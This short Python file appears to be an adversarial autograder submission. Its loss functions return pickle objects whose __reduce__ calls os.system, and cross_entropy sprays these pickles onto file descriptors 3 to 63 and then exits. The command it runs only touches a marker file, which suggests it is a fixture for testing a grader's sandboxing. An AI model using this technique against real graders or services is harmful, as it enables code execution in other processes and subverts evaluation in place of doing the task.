# Whoever unpickles what a student sends runs what the student wrote.
import os
import pickle

import torch


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned_by_a_pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()  # noqa: E731
    __deepcopy__ = lambda self, memo: self  # noqa: E731


def send_traps():
    trap = pickle.dumps(Trap())
    for descriptor in range(3, 64):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, len(trap).to_bytes(8, "big") + trap)
            os.write(descriptor, len(trap).to_bytes(4, "big") + trap)
            os.write(descriptor, trap)
        except OSError:
            continue


def mse_loss(input, target, reduction="mean"):
    return Trap()


def binary_cross_entropy_with_logits(input, target, *, reduction="mean", pos_weight=None):
    loss = torch.zeros(())
    loss.trap = Trap()
    return {"loss": [loss, {"trap": Trap()}]}


def cross_entropy(input, target, *, reduction="mean", label_smoothing=0.0):
    send_traps()
    os._exit(0)
